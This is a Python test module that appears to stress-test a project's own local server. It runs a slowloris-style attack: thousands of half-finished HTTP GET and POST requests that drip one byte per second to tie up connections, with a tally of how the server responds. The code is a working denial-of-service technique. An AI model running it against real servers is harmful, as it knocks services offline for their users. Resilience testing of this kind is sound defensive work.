"""Thousands of calls that are begun and never finished: their connections are to run out."""

from __future__ import annotations

import asyncio
from functools import partial

from tests.server.attack.target import Attack, Target

LINES = 5000
DRIP = 1.0  # seconds between two bytes: never quite silent

HALVES = {
    "heads": ("GET", ()),
    "bodies": ("POST", ("Content-Type: application/json", "Content-Length: 60000", "")),
}


def half(kind: str) -> Attack:
    return partial(_half, *HALVES[kind])


async def _half(method: str, rest: tuple[str, ...], target: Target) -> None:
    lines = [f"{method} /api/tables HTTP/1.1", f"Host: 127.0.0.1:{target.port}", *rest]
    begun = ("\r\n".join(lines) + "\r\n").encode()
    gate = asyncio.Semaphore(200)
    await asyncio.gather(*(_drip(target, gate, begun) for _ in range(LINES)))


async def _drip(target: Target, gate: asyncio.Semaphore, begun: bytes) -> None:
    while True:
        try:
            async with gate:
                reader, writer = await target.open()
            target.tally["opened"] += 1
        except OSError:
            target.tally["not let in"] += 1
            await asyncio.sleep(DRIP)
            continue
        answer = asyncio.ensure_future(reader.read(16))
        try:
            writer.write(begun)
            while not answer.done():
                writer.write(b"x")
                await asyncio.wait([answer], timeout=DRIP)
            target.tally[(await answer)[9:12].decode() or "hung up"] += 1
        except OSError:
            target.tally["hung up"] += 1
        finally:
            answer.cancel()
            writer.close()
        await asyncio.sleep(DRIP)
